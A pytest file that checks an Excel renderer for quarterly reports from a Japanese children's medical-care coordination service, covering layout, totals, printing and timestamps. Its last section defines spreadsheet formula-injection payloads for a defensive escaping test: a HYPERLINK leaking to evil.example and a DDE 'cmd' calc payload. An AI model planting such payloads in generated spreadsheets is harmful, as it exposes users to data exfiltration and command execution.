"""The Excel report, read back with openpyxl (and printed by LibreOffice) as a user would see it."""

import re
import subprocess
import tempfile
import time
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from accounts.models import Office
from coordination.fiscal import FiscalPeriod
from reporting.quarterly import build_quarterly_report
from reporting.render.xlsx import render
from reporting.tables import EventSection, EventTable, Report, Row, Section

pytestmark = pytest.mark.django_db

AGE_KEYS = ("clients", "contacts", "with_care", "without_care")
AGE_HEADINGS = ("相談対象 (実人数)", "相談数 (延べ件数)", "医ケア 有", "医ケア 無")
DEMO_OFFICE = "北区医療的ケア児等コーディネーター事業"
LONG_TEXT = "、".join(["訪問看護ステーション変更希望の相談や後任ステーション探し"] * 6)


def ages(clients, contacts, with_care, without_care) -> dict[str, int]:
    return dict(zip(AGE_KEYS, (clients, contacts, with_care, without_care)))


def small_report(section_3_rows=None) -> Report:
    section_1 = Section(
        1,
        "相談対象者 (実人数)",
        AGE_KEYS,
        (
            Row(("未就学児",), ages(2, 5, 1, 1), key="preschool"),
            Row(("就学児", "小学生"), ages(3, 7, 2, 1), key="elementary"),
            Row(("就学児", "中学生"), ages(1, 1, 1, 0), key="junior_high"),
            Row(("不明",), ages(0, 0, 0, 0), key="unknown"),
        ),
        headings=AGE_HEADINGS,
    )
    section_3 = Section(
        3,
        "相談者および機関数 (延べ件数)",
        ("count",),
        section_3_rows
        or (
            Row(("当事者", "親", "母"), {"count": 4}, key="party-parent-mother"),
            Row(("当事者", "親", "父"), {"count": 1}, key="party-parent-father"),
            Row(("当事者", "本人"), {"count": 0}, key="party-self"),
            Row(("医療機関", "訪問看護"), {"count": 3}, "さくら訪問看護ステーション", key="medical-visiting-nurse"),
        ),
        has_text=True,
        headings=("件数",),
        text_heading="相手先や主な内容",
    )
    section_5 = Section(
        5,
        "相談・活動の種別（延べ件数）",
        ("count",),
        (Row(("在宅医療", "訪問看護"), {"count": 61}, LONG_TEXT, key="home-medical-nursing"),),
        has_text=True,
        headings=("件数",),
        text_heading="主な内容",
    )
    meetings = EventTable(
        "会議",
        ("会議参加", "会議名", "開催日", "方法・会場", "主な議題", "対象", "参加者数"),
        (("参加", "区立園長会", "5月8日", "対面・北とぴあ", "事業報告", "区立園長", "30名程度"),),
    )
    return Report(
        title="業務報告書 ( 令和7年度 第1四半期：2025年4月1日～2025年6月30日現在 )",
        office="テスト区医療的ケア児等コーディネーター事業",
        schedule="月・水・金 9:00～17:00",
        fiscal_year=2025,
        quarters=(1, 1),
        start=date(2025, 4, 1),
        end=date(2025, 6, 30),
        business_days=38,
        out_of_hours=3,
        activities=40,
        sections=(section_1, section_3, section_5),
        event_sections=(EventSection(6, "ネットワーク構築（情報収集・連絡・調整・会議等）", (meetings,)),),
        footnotes=("年齢区分は年度初日（4月1日）時点",),
    )


LABELS = 5  # label columns (group ▸ subgroup ▸ leaf, spread over the grid); the numbers start at F
FIRST_VALUE = LABELS + 1
SUM = re.compile(r"=SUM\(([A-Z]+)(\d+):\1(\d+)\)")


def read(data: bytes, data_only=False) -> Workbook:
    return load_workbook(BytesIO(data), data_only=data_only)


def libreoffice(target: str, directory: Path, *files: Path):
    """Convert the files with LibreOffice (headless, with a profile of its own) into `directory`."""
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{directory}/libreoffice",
            "--headless",
            "--convert-to",
            target,
            "--outdir",
            str(directory),
            *map(str, files),
        ],
        check=True,
        capture_output=True,
        timeout=180,
        env={"HOME": str(directory), "PATH": "/usr/bin:/bin"},
    )


def recalculated(data: bytes) -> Workbook:
    """The workbook's values as LibreOffice calculates them on opening it (openpyxl stores no results)."""
    with tempfile.TemporaryDirectory() as directory:
        source = Path(directory) / "source" / "report.xlsx"
        source.parent.mkdir()
        source.write_bytes(data)
        libreoffice("xlsx", Path(directory), source)
        return load_workbook(Path(directory) / "report.xlsx", data_only=True)


def sheets(book) -> list[Worksheet]:
    return book.worksheets if isinstance(book, Workbook) else [book]


def column_a(book) -> list:
    """Column A of every sheet, one sheet after the other."""
    return [ws.cell(row, 1).value for ws in sheets(book) for row in range(1, ws.max_row + 1)]


def sheet_with(book, number) -> Worksheet:
    """The sheet holding section `number`."""
    return next(ws for ws in sheets(book) if any(str(value or "").startswith(f"{number}. ") for value in column_a(ws)))


def merged_range(ws, row, column):
    return next((cells for cells in ws.merged_cells.ranges if (row, column) in cells.cells), None)


def anchor_value(ws, row, column):
    """The cell's value, or that of the merged cell covering it."""
    cells = merged_range(ws, row, column)
    return ws.cell(cells.min_row, cells.min_col).value if cells else ws.cell(row, column).value


def path(ws, row) -> tuple[str, ...]:
    """The labels of a table row, reading a merged label from the cell that holds it."""
    anchors = []
    for column in range(1, LABELS + 1):
        cells = merged_range(ws, row, column)
        anchor = (cells.min_row, cells.min_col) if cells else (row, column)
        if anchor not in anchors:
            anchors.append(anchor)
    # (A label too long for its cell has a line break at a natural point.)
    return tuple(value.replace("\n", "") for anchor in anchors if (value := ws.cell(*anchor).value))


def heading_row(ws, number) -> int:
    return next(row for row, value in enumerate(column_a(ws), start=1) if str(value or "").startswith(f"{number}. "))


def counted_table(book, number) -> tuple[dict, list]:
    """A counted section as {path: cells from the first value column on} and its 合計 row's cells."""
    ws = sheet_with(book, number)
    rows, row = {}, heading_row(ws, number) + 2
    while ws.cell(row, 1).value != "合計":
        rows[path(ws, row)] = [ws.cell(row, column).value for column in range(FIRST_VALUE, ws.max_column + 1)]
        row += 1
    return rows, [ws.cell(row, column).value for column in range(FIRST_VALUE, ws.max_column + 1)]


def summed(ws, formula: str) -> int:
    """The value of one of the report's =SUM(F9:F20) formulas, read off the sheet."""
    column, first, last = SUM.fullmatch(formula).groups()
    values = (ws[f"{column}{row}"].value for row in range(int(first), int(last) + 1))
    return sum(value for value in values if isinstance(value, int))


def is_heading(ws, row) -> bool:
    """Whether the row is a table's heading row (its cells shaded)."""
    return ws.cell(row, 1).fill.fgColor.rgb == "FFE8E8E8"


def event_tables(book, number) -> list[list[tuple[str, ...]]]:
    """A section's event table in its parts (each from a heading row): rows read at the heading's cells."""
    ws = sheet_with(book, number)
    tables, row = [], heading_row(ws, number) + 1
    while row <= ws.max_row and any(anchor_value(ws, row, column) for column in range(1, ws.max_column + 1)):
        if is_heading(ws, row):
            columns = [column for column in range(1, ws.max_column + 1) if ws.cell(row, column).value]
            tables.append([])
        tables[-1].append(tuple(anchor_value(ws, row, column) or "" for column in columns))
        row += 1
    return tables


TITLE = "業務報告書 ( 令和7年度 第1四半期：2025年4月1日～2025年6月30日現在 )"


def test_the_workbook_opens_with_the_title_and_the_header_lines():
    ws = read(render(small_report())).worksheets[0]
    assert ws.title == "1〜6"  # the sections it holds
    assert ws["A1"].value == TITLE
    assert ws["A1"].font.b
    assert column_a(ws)[1:5] == [
        "テスト区医療的ケア児等コーディネーター事業",
        "月・水・金 9:00～17:00",
        "38 営業日",
        "時間外の活動：3回 / 40回",
    ]
    assert ws["A1"].font.name == "IPAexGothic"


def test_sections_follow_in_order_and_the_footnote_comes_last():
    texts = [value for value in column_a(read(render(small_report()))) if value]
    headings = [text for text in texts if re.match(r"\d\. ", text)]
    assert headings == [
        "1. 相談対象者 (実人数)",
        "3. 相談者および機関数 (延べ件数)",
        "5. 相談・活動の種別（延べ件数）",
        "6. ネットワーク構築（情報収集・連絡・調整・会議等）",
    ]
    assert texts[-1] == "※年齢区分は年度初日（4月1日）時点"


def test_a_group_label_is_one_cell_merged_down_its_rows():
    ws = read(render(small_report())).worksheets[0]
    first = heading_row(ws, 1) + 3  # heading, column headings, 未就学児
    assert ws.cell(first, 1).value == "就学児"
    assert merged_range(ws, first, 1).coord == f"A{first}:B{first + 1}"
    parent = heading_row(ws, 3) + 2
    assert ws.cell(parent, 1).value == "当事者" and merged_range(ws, parent, 1).coord == f"A{parent}:B{parent + 2}"
    assert ws.cell(parent, 3).value == "親" and merged_range(ws, parent, 3).coord == f"C{parent}:C{parent + 1}"


def test_a_leaf_spans_the_remaining_label_columns():
    ws = read(render(small_report())).worksheets[0]
    row = heading_row(ws, 1) + 2
    assert ws.cell(row, 1).value == "未就学児" and merged_range(ws, row, 1).coord == f"A{row}:E{row}"
    assert ws.cell(row + 1, 3).value == "小学生" and merged_range(ws, row + 1, 3).coord == f"C{row + 1}:E{row + 1}"
    rows, _ = counted_table(ws, 3)
    assert list(rows) == [("当事者", "親", "母"), ("当事者", "親", "父"), ("当事者", "本人"), ("医療機関", "訪問看護")]
    parent = heading_row(ws, 3) + 2
    assert ws.cell(parent, 4).value == "母" and merged_range(ws, parent, 4).coord == f"D{parent}:E{parent}"


def test_a_label_too_long_for_its_cell_wraps_at_a_natural_point():
    long = "区内相談支援事業者等に対する人材育成支援のための研修会と勉強会（医療的ケア児等に関する会議を含む）"
    report = small_report(section_3_rows=(Row(("行政機関", long), {"count": 1}), Row(("地域づくり",), {"count": 2})))
    ws = read(render(report)).worksheets[0]
    row = heading_row(ws, 3) + 2
    assert (
        ws.cell(row, 3).value
        == "区内相談支援事業者等に対する\n人材育成支援のための研修会と勉強会\n（医療的ケア児等に関する会議を含む）"
    )
    assert ws.cell(row + 1, 1).value == "地域づくり"  # a label that fits is left whole
    assert list(counted_table(ws, 3)[0]) == [("行政機関", long), ("地域づくり",)]


def test_the_columns_are_headed_as_in_the_printed_report():
    ws = read(render(small_report())).worksheets[0]
    headings = [ws.cell(heading_row(ws, 1) + 1, column).value for column in range(FIRST_VALUE, FIRST_VALUE + 4)]
    assert [heading.replace("\n", " ") for heading in headings] == [
        "相談対象 (実人数)",
        "相談数 (延べ件数)",
        "医ケア 有",
        "医ケア 無",
    ]
    assert headings[0] == "相談対象\n(実人数)"  # broken before the bracket to fit the narrow column
    header = heading_row(ws, 3) + 1
    assert [ws.cell(header, column).value for column in (FIRST_VALUE, FIRST_VALUE + 1)] == ["件数", "相手先や主な内容"]
    assert ws.cell(heading_row(ws, 5) + 1, FIRST_VALUE + 1).value == "主な内容"


def test_counts_are_numbers_and_each_total_is_the_sum_of_its_column():
    ws = read(render(small_report())).worksheets[0]
    rows, total = counted_table(ws, 1)
    assert rows[("就学児", "小学生")][:4] == [3, 7, 2, 1]
    first = heading_row(ws, 1) + 2
    assert total[:4] == [f"=SUM({column}{first}:{column}{first + 3})" for column in "FGHI"]
    assert [summed(ws, formula) for formula in total[:4]] == [6, 13, 4, 2]
    numbers = [cell for row in ws.iter_rows() for cell in row if isinstance(cell.value, int)]
    assert numbers and all(cell.data_type == "n" for cell in numbers)
    # The report's own formulas are its totals, nothing else.
    formulas = [cell for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas and all(SUM.fullmatch(cell.value) and ws.cell(cell.row, 1).value == "合計" for cell in formulas)


def test_the_total_row_is_bold_and_boxed():
    ws = read(render(small_report())).worksheets[0]
    row = column_a(ws).index("合計") + 1
    assert ws.cell(row, 1).value == "合計"
    assert all(ws.cell(row, column).font.b for column in (1, *range(FIRST_VALUE, FIRST_VALUE + 4)))
    cell = ws.cell(row, FIRST_VALUE)
    assert cell.border.top.style == "thin" and cell.border.bottom.style == "thin"


def test_a_long_text_wraps_in_its_cell_and_its_row_grows():
    ws = read(render(small_report())).worksheets[0]
    row = heading_row(ws, 5) + 2
    text = ws.cell(row, FIRST_VALUE + 1)
    assert text.value == LONG_TEXT and text.alignment.wrap_text
    assert ws.row_dimensions[row].height > 2 * ws.row_dimensions[row + 1].height  # the 合計 row below


def test_it_prints_on_a4_portrait_at_a_fixed_scale_with_numbered_pages():
    for ws in read(render(small_report())).worksheets:
        assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
        assert ws.page_setup.orientation == "portrait"
        assert not ws.sheet_properties.pageSetUpPr.fitToPage  # the page breaks are ours
        assert 50 <= ws.page_setup.scale <= 100
        assert "&P / &N" in ws.oddFooter.center.text


def test_a_report_that_fits_on_one_page_is_one_sheet_with_no_breaks():
    [ws] = read(render(small_report())).worksheets
    assert not ws.row_breaks.brk and ws.print_title_rows is None


def test_section_6_is_one_table_its_outreach_grouped_by_scope_above_its_meetings():
    outreach = EventTable(
        "周知活動等",
        ("周知活動等", "実施機関", "実施日", "方法", "内容", "対象", "参加者数"),
        (
            ("区内", "ピアネット北", "4月14日", "対面", "宣伝のページ作成", "職員", "1名"),
            ("区内", "放課後等デイサービス", "4月15日", "対面", "リーフレット持参", "職員", "1名"),
            ("区外", "区部医ケア児センター", "4月4日", "対面", "リーフレット持参", "看護師", "3名"),
        ),
        grouped=True,
    )
    report = small_report()
    meetings = report.event_sections[0].tables[0]
    others = EventTable("その他", ("課題・テーマ", "期間", "方法", "内容・結果など", "対象"), ())
    report = replace(
        report,
        event_sections=(
            EventSection(6, "ネットワーク構築（情報収集・連絡・調整・会議等）", (outreach, meetings)),
            EventSection(8, "その他", (others,)),
        ),
    )
    workbook = read(render(report))
    assert event_tables(workbook, 6) == [[outreach.columns, *outreach.rows], [meetings.columns, *meetings.rows]]
    ws = sheet_with(workbook, 6)
    heading = heading_row(ws, 6) + 1
    assert [is_heading(ws, row) for row in range(heading, heading + 6)] == [True, False, False, False, True, False]
    assert merged_range(ws, heading + 1, 1).coord == f"A{heading + 1}:A{heading + 2}"  # 区内 down its two rows
    assert "周知活動等" not in column_a(ws)[: heading - 1]  # no caption above the table
    # §8 with no event: its heading row only.
    assert event_tables(workbook, 8) == [[others.columns]]
    assert "該当する記録はありません" not in [cell.value for row in ws.iter_rows() for cell in row]


def test_the_file_is_dated_when_it_was_made():
    before = timezone.now().astimezone(UTC).replace(tzinfo=None, microsecond=0)
    properties = load_workbook(BytesIO(render(small_report()))).properties
    after = timezone.now().astimezone(UTC).replace(tzinfo=None)
    assert before <= properties.created <= after  # not the period's end (2025-06-30)
    assert properties.modified == properties.created


def test_the_same_report_made_at_the_same_time_gives_the_same_bytes_whatever_the_clock(monkeypatch):
    report = small_report()
    finalized_at = datetime(2025, 7, 3, 10, 15, 30, tzinfo=ZoneInfo("Asia/Tokyo"))
    first = render(report, made_at=finalized_at)
    later = time.time() + 3 * 86400
    monkeypatch.setattr(time, "time", lambda: later)
    assert render(report, made_at=finalized_at) == first
    properties = load_workbook(BytesIO(first)).properties
    assert properties.created == properties.modified == datetime(2025, 7, 3, 1, 15, 30)  # UTC, as Excel stores it
    assert {entry.date_time for entry in zipfile.ZipFile(BytesIO(first)).infolist()} == {(2025, 7, 3, 10, 15, 30)}


def test_the_previous_period_columns_hold_last_years_numbers():
    report = small_report()
    previous = small_report(
        section_3_rows=(
            Row(("当事者", "親", "お母さん"), {"count": 9}, key="party-parent-mother"),  # renamed since: matched by key
            Row(("当事者", "本人"), {"count": 2}),  # no key: matched by path
            Row(("医療機関", "訪問看護"), {"count": 5}, key="medical-visiting-nurse"),
        )
    )
    ws = read(render(report, previous)).worksheets[0]
    header = heading_row(ws, 3) + 1
    assert [ws.cell(header, FIRST_VALUE + offset).value for offset in range(3)] == [
        "件数",
        "前年同期",
        "相手先や主な内容",
    ]
    rows, total = counted_table(ws, 3)
    assert {label: cells[:2] for label, cells in rows.items()} == {
        ("当事者", "親", "母"): [4, 9],
        ("当事者", "親", "父"): [1, "—"],
        ("当事者", "本人"): [0, 2],
        ("医療機関", "訪問看護"): [3, 5],
    }
    assert [summed(ws, formula) for formula in total[:2]] == [8, 16]
    ages_header = [ws.cell(heading_row(ws, 1) + 1, FIRST_VALUE + 4 + offset).value for offset in range(4)]
    assert [heading.replace("\n", " ") for heading in ages_header] == [
        "前年同期 相談対象 (実人数)",
        "前年同期 相談数 (延べ件数)",
        "前年同期 医ケア 有",
        "前年同期 医ケア 無",
    ]
    assert counted_table(ws, 1)[0][("就学児", "小学生")][:8] == [3, 7, 2, 1, 3, 7, 2, 1]


def test_without_a_previous_period_there_is_no_previous_column():
    workbook = read(render(small_report()))
    assert "前年同期" not in {cell.value for ws in workbook for row in ws.iter_rows() for cell in row}


# --- the demo report, as LibreOffice opens and prints it ------------------------------------------


@pytest.fixture(scope="module")
def demo(django_db_setup, django_db_blocker, tmp_path_factory):
    """The demo's Q1–Q3 report, its workbook, the values LibreOffice calculates and its print, made once."""
    with django_db_blocker.unblock():
        report = build_quarterly_report(Office.objects.get(name=DEMO_OFFICE), FiscalPeriod(2025, 1, 3))
    directory = tmp_path_factory.mktemp("xlsx")
    data = render(report)
    (directory / "report.xlsx").write_bytes(data)
    libreoffice("pdf", directory, directory / "report.xlsx")
    return report, read(data), recalculated(data), directory / "report.pdf"


def test_the_demo_report_has_the_seed_header_and_totals(demo):
    _, workbook, values, _ = demo
    assert "104 営業日" in column_a(workbook)
    assert "時間外の活動：123回 / 459回" in column_a(workbook)

    _, total = counted_table(values, 1)
    assert total[:4] == [32, 282, 26, 6]
    rows, total = counted_table(values, 2)
    assert {label: cells[0] for label, cells in rows.items()} == {
        ("王子地区",): 13,
        ("赤羽地区",): 14,
        ("滝野川地区",): 2,
        ("区外",): 3,
        ("不明",): 0,
    }
    assert total[0] == 32
    for number, count, leaves in [(3, 434, 37), (4, 431, 16), (5, 463, 63)]:
        rows, total = counted_table(values, number)
        assert (total[0], len(rows)) == (count, leaves)
    assert counted_table(values, 3)[0][("当事者", "親", "母")][0] == 124


def test_the_demo_events_are_listed_in_date_order_within_their_scope(demo):
    report, workbook, _, _ = demo
    for section in report.event_sections[:2]:
        tables = event_tables(workbook, section.number)
        assert tables == [[table.columns, *table.rows] for table in section.tables]
        for table in tables:
            dates = [tuple(map(int, re.match(r"(\d+)月(\d+)日", row[2]).groups())) for row in table[1:]]
            # §6's outreach: 区内 before 区外, as the seed; by date within each
            scopes = [row[0] != "区内" if table[0][0] == "周知活動等" else 0 for row in table[1:]]
            fiscal_order = [(scope, month < 4, month, day) for scope, (month, day) in zip(scopes, dates)]
            assert fiscal_order == sorted(fiscal_order)
    assert [len(table) - 1 for table in event_tables(workbook, 6) + event_tables(workbook, 7)] == [5, 20, 3]


def test_the_demo_is_split_into_sheets_by_section_each_opening_with_the_title(demo):
    report, workbook, _, _ = demo
    numbers = []
    for ws in workbook:
        assert ws["A1"].value == report.title
        on_sheet = [int(text.split(".")[0]) for text in map(str, column_a(ws)) if re.match(r"\d\. ", text)]
        assert ws.title == (f"{on_sheet[0]}" if len(on_sheet) == 1 else f"{on_sheet[0]}〜{on_sheet[-1]}")
        numbers += on_sheet
    assert numbers == list(range(1, 9)) and len(workbook.worksheets) > 1


def test_pages_break_between_groups_and_repeat_the_running_tables_heading(demo):
    _, workbook, _, _ = demo
    for ws in workbook:
        for row in (brk.id for brk in ws.row_breaks.brk):  # the page ends after `row`
            assert not any(cells.min_row <= row < cells.max_row for cells in ws.merged_cells.ranges)
            assert not is_heading(ws, row) and not re.match(r"\d\. ", str(ws.cell(row, 1).value or ""))
            assert ws.cell(row + 1, 1).value != "合計"
        if ws.print_title_rows:
            # One heading row, of the sheet's last table to run over a page.
            first, last = map(int, re.findall(r"\d+", ws.print_title_rows))
            assert first == last and is_heading(ws, first)
            assert any(brk.id > first for brk in ws.row_breaks.brk)
    assert any(ws.print_title_rows for ws in workbook)


def test_libreoffice_prints_the_demo_on_a4_pages_as_broken_here(demo):
    _, workbook, _, pdf = demo
    info = subprocess.run(["pdfinfo", str(pdf)], check=True, capture_output=True, text=True).stdout
    assert re.search(r"Page size:\s+595\.\d+ x 841\.\d+ pts \(A4\)", info)
    # No page more than ours: no row overflows a page, no column spills onto a page of its own.
    pages = sum(len(ws.row_breaks.brk) + 1 for ws in workbook)
    assert re.search(r"Pages:\s+(\d+)", info).group(1) == str(pages)
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True, text=True).stdout
    assert "業務報告書" in text and "合計" in text
    assert "北区医療的ケア児等コーディネーター事業" in text
    assert re.search(rf"\b1 ?/ ?{pages}\b", text)  # the page number in the footer


# --- formulas: an attacker's text is shown, never run ---------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","詳細")'
# (A carriage return would come back as a line feed: XML normalises line ends.)
HOSTILE = (HYPERLINK, "+SUM(1)", "-1+2", "@SUM(A1)", "\t=1+1", "  =cmd|' /C calc'!A0")


def formulas(workbook) -> list[str]:
    """Every formula in the workbook but the report's own: the 合計 row's =SUM(…) of its column."""
    return [
        cell.value
        for ws in workbook
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f" and not (SUM.fullmatch(cell.value) and ws.cell(cell.row, 1).value == "合計")
    ]


def all_values(workbook) -> list:
    return [cell.value for ws in workbook for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_hostile_texts_anywhere_in_the_report_are_written_as_text_not_formulas():
    report = small_report(
        section_3_rows=tuple(
            Row(("医療機関", f"機関{index}"), {"count": 1}, text, key=f"hostile-{index}")
            for index, text in enumerate(HOSTILE)
        )
    )
    meetings = EventTable(
        "会議", ("会議参加", "会議名", "開催日", "方法・会場"), ((HOSTILE[1], HYPERLINK, "5月8日", "@x"),)
    )
    report = replace(
        report,
        office=HYPERLINK,
        schedule="+81 3 0000",
        event_sections=(EventSection(6, "ネットワーク構築", (meetings,)),),
    )
    workbook = read(render(report))
    # The only formulas are the report's totals.
    assert formulas(workbook) == []
    values = all_values(workbook)
    for text in (*HOSTILE, "@x", "+81 3 0000"):
        assert "'" + text in values
        assert text not in values


def test_an_event_named_like_a_formula_is_shown_as_text_in_the_downloaded_report(demo_office, coordinator):
    from coordination.events.models import EventKind
    from coordination.events.services import event_create

    event_create(
        office=demo_office,
        user=coordinator,
        kind=EventKind.MEETING,
        name=HYPERLINK,
        held_on=date(2025, 5, 9),
        method_venue="=1+1",
        topic="@SUM(A1)",
    )
    workbook = read(render(build_quarterly_report(demo_office, FiscalPeriod(2025, 1, 1))))
    assert formulas(workbook) == []
    values = all_values(workbook)
    assert {"'" + HYPERLINK, "'=1+1"} <= set(values)
    assert HYPERLINK not in values
